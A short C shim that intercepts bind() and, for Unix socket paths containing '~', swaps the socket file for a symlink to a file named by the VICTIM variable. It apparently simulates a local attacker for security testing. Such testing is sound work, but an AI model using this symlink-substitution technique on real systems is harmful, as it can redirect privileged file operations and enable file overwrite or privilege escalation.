/* Puts a link to the file VICTIM where a door was bound, as a user could who may write to the
 * directory. */
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int bind(int fd, const struct sockaddr *address, socklen_t length) {
    int (*real)(int, const struct sockaddr *, socklen_t) = dlsym(RTLD_NEXT, "bind");
    int result = real(fd, address, length);
    const char *path = ((const struct sockaddr_un *)address)->sun_path;
    if (result == 0 && address->sa_family == AF_UNIX && strchr(path, '~') != NULL) {
        unlink(path);
        result = symlink(getenv("VICTIM"), path);
    }
    return result;
}
